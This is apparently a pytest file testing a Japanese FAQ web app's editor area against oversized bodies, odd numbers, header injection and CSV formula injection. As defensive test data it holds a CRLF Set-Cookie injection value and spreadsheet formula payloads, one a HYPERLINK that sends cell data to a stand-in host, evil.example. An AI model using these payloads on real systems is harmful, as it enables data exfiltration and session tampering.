"""The editors' area under odd input (issue 18, section 7): large bodies, odd numbers and
addresses get a 4xx and no traceback; CSV exports never hand a spreadsheet a formula."""
from __future__ import annotations

import csv
import io
import logging
from datetime import datetime, timezone
from urllib.parse import urlencode

import pytest
from sqlalchemy import insert

from kb import set_editor_password
from kb.indexer import build_index
from kb.ingest import load_content
from kb.records import questions

from .editor_helpers import HTTPS, PASSWORD, csrf_token, editor_app, post, sign_in

EDITOR_POSTS = ("/editor/sign-in", "/editor/sign-out", "/editor/unanswered/fix")


@pytest.fixture
def app(tmp_path):
    app = editor_app(tmp_path)
    app.config["PROPAGATE_EXCEPTIONS"] = False  # as in production: an error inside an error handler is a 500
    yield app
    app.extensions["kb_records"].dispose()


def no_errors_logged(caplog) -> bool:
    return not [r for r in caplog.records if r.levelno >= logging.ERROR]


@pytest.mark.parametrize("path", EDITOR_POSTS)
def test_a_large_anonymous_post_gets_413_and_no_traceback(app, caplog, path):
    client = app.test_client()
    caplog.set_level(logging.INFO)
    response = client.post(path, base_url=HTTPS, data={"question": "x" * 20_000, "csrf_token": "t"})
    assert response.status_code == 413 and "送信された内容が大きすぎます" in response.get_data(as_text=True)
    # a chunked body states no length: it is cut off where it passes the limit
    chunked = client.post(path, base_url=HTTPS, input_stream=io.BytesIO(b"question=" + b"x" * 20_000),
                          content_type="application/x-www-form-urlencoded",
                          environ_overrides={"wsgi.input_terminated": True})
    assert chunked.status_code == 413
    assert no_errors_logged(caplog) and "Traceback" not in caplog.text


def test_a_large_post_from_a_signed_in_editor_gets_413(app, caplog):
    client = app.test_client()
    sign_in(client)
    response = post(client, "/editor/unanswered/fix", {"question": "x" * 20_000, "csrf_token": csrf_token(client, "/editor/")})
    assert response.status_code == 413 and no_errors_logged(caplog)


@pytest.mark.parametrize("days", ["²", "①", "٣", "9" * 5000])
@pytest.mark.parametrize("page", ["/editor/", "/editor/unanswered", "/editor/figures/questions.csv",
                                  "/editor/figures/questions.svg"])
def test_a_period_that_is_not_plain_digits_is_400(app, caplog, page, days):
    client = app.test_client()
    sign_in(client)
    assert client.get(page, base_url=HTTPS, query_string={"days": days}).status_code == 400
    assert no_errors_logged(caplog)


# past SQLite's 64 bits, and past PostgreSQL's 32-bit integer column
@pytest.mark.parametrize("number", ["99999999999999999999999", "9223372036854775808", "2147483648"])
def test_an_edit_number_beyond_any_id_is_404(app, caplog, number):
    client = app.test_client()
    sign_in(client)
    assert client.get(f"/editor/edits/{number}", base_url=HTTPS).status_code == 404
    assert no_errors_logged(caplog)


@pytest.mark.parametrize("target", ["/editor/\r\nSet-Cookie: x=1", "/editor/\n", "/editor/\x00"])
def test_a_control_character_in_next_is_400(app, caplog, target):
    client = app.test_client()
    query = urlencode({"next": target})
    assert client.get("/editor/sign-in?" + query, base_url=HTTPS).status_code == 400
    response = post(client, "/editor/sign-in?" + query,
                    {"name": "suzuki", "password": PASSWORD, "csrf_token": csrf_token(client)})
    assert response.status_code == 400 and "x=1" not in response.headers.get("Set-Cookie", "")
    assert client.get("/editor/", base_url=HTTPS).status_code == 302  # not signed in by that request
    assert no_errors_logged(caplog)
    assert sign_in(client).headers["Location"] == "/editor/"  # a plain sign-in still works


# Cells a spreadsheet would run (OWASP "CSV injection"): from imported FAQ text and categories.
FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"詳細\")", "+SUM(1,2)", "-2+3", "@SUM(1)"]


@pytest.fixture
def formula_client(tmp_path):
    from webapp import create_app

    content = tmp_path / "content"
    content.mkdir()
    lines = ["id,question,answer,category"] + [
        f'{n},"{text.replace(chr(34), chr(34) * 2)}",答えです。,"{text.replace(chr(34), chr(34) * 2)}"'
        for n, text in enumerate(FORMULAS, 1)] + [f"{len(FORMULAS) + 1},保険料はいくらですか,所得によります。,国保"]
    (content / "faq.csv").write_text("\n".join(lines) + "\n", "utf-8")
    loaded = load_content([content])
    assert [e.question for e in loaded.entries][:len(FORMULAS)] == FORMULAS
    build_index(loaded, tmp_path / "index")
    app = create_app({"TESTING": True, "INDEX_DIR": str(tmp_path / "index"), "CONTENT_DIR": str(content),
                      "DATABASE_URL": f"sqlite:///{tmp_path / 'kb.sqlite3'}", "SECRET_KEY": "test-secret"})
    set_editor_password(app.extensions["kb_records"].engine, "suzuki", PASSWORD)
    now = datetime.now(timezone.utc)
    with app.extensions["kb_records"].engine.begin() as conn:
        conn.execute(insert(questions), [
            dict(created_at=now, question="質問", outcome="answer", entry_id=f"faq.{n}", confidence=0.9, index_version="v")
            for n in range(1, len(FORMULAS) + 2)])
    client = app.test_client()
    sign_in(client)
    yield client
    app.extensions["kb_records"].dispose()


def exported(client, name) -> list[list[str]]:
    response = client.get(f"/editor/figures/{name}.csv?days=7", base_url=HTTPS)
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"), newline="")))


def test_csv_exports_never_start_a_cell_with_a_formula(formula_client):
    entries = exported(formula_client, "entries")[1:]
    topics = exported(formula_client, "topics")[1:]
    cells = [cell for row in entries + topics for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    questions_shown = {row[1] for row in entries}
    # the text itself is kept, behind the quote a spreadsheet shows as text
    assert {"'" + f for f in FORMULAS} <= questions_shown and "保険料はいくらですか" in questions_shown
    assert {"'" + f for f in FORMULAS} <= {row[0] for row in topics} and ["国保", "1"] in topics
    assert all(row[2] == "1" for row in entries)  # numbers stay numbers


@pytest.mark.parametrize("cell, shown", [("=1+1", "'=1+1"), ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
                                         ("@A1", "'@A1"), ("保険証", "保険証"), ("2024-04-01", "2024-04-01"), (-2, -2)])
def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote(cell, shown):
    from webapp.editor.dashboard import csv_cell

    assert csv_cell(cell) == shown
